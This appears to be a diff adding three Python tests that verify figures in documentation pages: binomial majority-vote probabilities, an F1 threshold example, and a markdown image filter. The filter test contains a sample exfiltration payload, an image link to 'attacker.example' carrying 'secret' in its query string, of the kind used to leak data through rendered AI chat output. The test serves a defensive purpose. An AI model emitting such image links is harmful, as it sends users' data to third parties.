@@ -795,6 +795,39 @@ def test_benchmark_uncertainty_numbers():
     assert (20 - 14) / 200 == 0.03
 
 
+def test_self_consistency_majority():
+    from scipy.stats import binom
+
+    p5 = binom.sf(2, 5, 0.6)
+    p15 = binom.sf(7, 15, 0.6)
+    contains("llm-risks/self-consistency", f"\\approx {p5:.3f}", f"about {p15:.3f}")
+    contains("llm-risks/self-consistency", " + ".join(f"{binom.pmf(k, 5, 0.6):.4f}" for k in (3, 4, 5)))
+
+
+def test_f1_threshold_example():
+    def f1(tp, fp, pos=60):
+        p, r = tp / (tp + fp), tp / pos
+        return 2 * p * r / (p + r)
+
+    contains("calibration-metrics/f1-threshold", f"= {f1(30, 10):.1f}", f"\\approx {f1(45, 35):.3f}")
+    assert f1(45, 35) > f1(30, 10)
+
+
+def test_exfil_filter_sketch():
+    import re
+    from urllib.parse import urlparse
+
+    img = re.compile(r"!\[[^\]]*\]\(\s*([^)\s]+)[^)]*\)")
+    md = "ok ![x](https://attacker.example/log?d=secret) ![y](https://cdn.good.com/a.png)"
+
+    def keep(m):
+        host = urlparse(m.group(1)).hostname or ""
+        return m.group(0) if host in {"cdn.good.com"} else "[image removed]"
+
+    out = img.sub(keep, md)
+    assert "attacker" not in out and "cdn.good.com" in out
+
+
 # --------------------------------------------------------------------------------------------- coding-patterns
 
 
